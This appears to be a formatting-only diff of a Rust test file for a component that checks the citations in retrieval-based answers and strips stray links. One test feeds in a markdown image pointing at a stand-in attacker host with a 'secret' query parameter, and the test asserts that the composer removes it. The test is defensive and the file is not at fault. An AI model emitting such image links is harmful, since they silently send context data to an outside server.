@@ -6,7 +6,8 @@ use crate::retrieve::{
 };
 
 const OFFICE: &str = "The head office opened in 1987 in Leeds. It is closed on Sundays.";
-const LEAVE: &str = "Staff are entitled to 25 days of paid leave per year. See https://acme.example/leave for the form.";
+const LEAVE: &str =
+    "Staff are entitled to 25 days of paid leave per year. See https://acme.example/leave for the form.";
 const PROXY: &str = "The proxy never caches tool calls. Completions are kept for 168 hours.";
 
 fn passages(texts: &[&str]) -> Vec<Passage> {
@@ -36,7 +37,10 @@ fn check(answer: &str, want: &str) -> Composed {
 
 #[test]
 fn right_citations_stay() {
-    let composed = check("The office opened in 1987 [1]. Staff have 25 days of paid leave. [2]", "The office opened in 1987 [1]. Staff have 25 days of paid leave. [2]");
+    let composed = check(
+        "The office opened in 1987 [1]. Staff have 25 days of paid leave. [2]",
+        "The office opened in 1987 [1]. Staff have 25 days of paid leave. [2]",
+    );
     assert!(composed.sentences.iter().all(|s| s.state == Support::Supported && s.reason.is_none()));
     assert_eq!(composed.sentences[1].citations[0].quote, "Staff are entitled to 25 days of paid leave per year.");
     assert!(!composed.sentences[0].citations[0].attached);
@@ -52,9 +56,18 @@ fn wrong_citations_are_replaced_where_another_passage_supports() {
 
 #[test]
 fn missing_citations_are_found() {
-    check("The office opened in 1987. Completions are kept for 168 hours", "The office opened in 1987 [1]. Completions are kept for 168 hours [3]");
-    check("- Opened in 1987 in Leeds\n- 25 days of paid leave", "- Opened in 1987 in Leeds [1]\n- 25 days of paid leave [2]");
-    check("The office opened in 1987 and staff have 25 days of paid leave.", "The office opened in 1987 and staff have 25 days of paid leave [1][2].");
+    check(
+        "The office opened in 1987. Completions are kept for 168 hours",
+        "The office opened in 1987 [1]. Completions are kept for 168 hours [3]",
+    );
+    check(
+        "- Opened in 1987 in Leeds\n- 25 days of paid leave",
+        "- Opened in 1987 in Leeds [1]\n- 25 days of paid leave [2]",
+    );
+    check(
+        "The office opened in 1987 and staff have 25 days of paid leave.",
+        "The office opened in 1987 and staff have 25 days of paid leave [1][2].",
+    );
 }
 
 #[test]
@@ -69,7 +82,9 @@ fn what_nothing_supports_is_marked_or_dropped() {
 
 #[test]
 fn a_flipped_negation_is_marked_whatever_it_cites() {
-    for answer in ["The proxy caches tool calls [3].", "The proxy caches tool calls.", "The proxy caches tool calls [1]."] {
+    for answer in
+        ["The proxy caches tool calls [3].", "The proxy caches tool calls.", "The proxy caches tool calls [1]."]
+    {
         let composed = composed_as(answer, Unsupported::Mark, false);
         assert!(composed.text.ends_with(UNVERIFIED), "{}", composed.text);
     }
@@ -89,16 +104,24 @@ fn a_cut_off_sentence_is_not_judged() {
 
 #[test]
 fn links_stay_only_beside_their_passage() {
-    check("The form for paid leave is at https://acme.example/leave [2].", "The form for paid leave is at https://acme.example/leave [2].");
-    let composed = check("The office opened in 1987 ![x](https://acme.example/leave) [1].", "The office opened in 1987 x [1].");
+    check(
+        "The form for paid leave is at https://acme.example/leave [2].",
+        "The form for paid leave is at https://acme.example/leave [2].",
+    );
+    let composed =
+        check("The office opened in 1987 ![x](https://acme.example/leave) [1].", "The office opened in 1987 x [1].");
     assert_eq!(composed.links_removed, 1);
-    let composed = composed_as("The office opened in 1987 [1] ![x](https://evil.example/?q=secret).", Unsupported::Mark, false);
+    let composed =
+        composed_as("The office opened in 1987 [1] ![x](https://evil.example/?q=secret).", Unsupported::Mark, false);
     assert!(!composed.text.contains("evil"), "{}", composed.text);
 }
 
 #[test]
 fn frames_and_lists_of_sources_are_not_judged() {
-    check("## Leave\n\nStaff have 25 days of paid leave [2].\n\n**Sources:**\n[1] d1.md\n[2] d2.md", "## Leave\n\nStaff have 25 days of paid leave [2].");
+    check(
+        "## Leave\n\nStaff have 25 days of paid leave [2].\n\n**Sources:**\n[1] d1.md\n[2] d2.md",
+        "## Leave\n\nStaff have 25 days of paid leave [2].",
+    );
     check("Staff have 25 days of paid leave.\n\n[2]", "Staff have 25 days of paid leave.\n\n[2]");
     check("[2] Staff have 25 days of paid leave.", "[2] Staff have 25 days of paid leave.");
 }
@@ -106,7 +129,8 @@ fn frames_and_lists_of_sources_are_not_judged() {
 #[test]
 fn abstentions_are_told_from_answers() {
     assert!(composed_as("The passages do not mention the price.", Unsupported::Mark, false).abstains);
-    let mixed = composed_as("The passages do not mention the price. The office opened in 1987 [1].", Unsupported::Mark, false);
+    let mixed =
+        composed_as("The passages do not mention the price. The office opened in 1987 [1].", Unsupported::Mark, false);
     assert!(!mixed.abstains);
     assert_eq!(mixed.sentences[0].state, Support::Weak);
     assert!(!composed_as("", Unsupported::Mark, false).abstains);
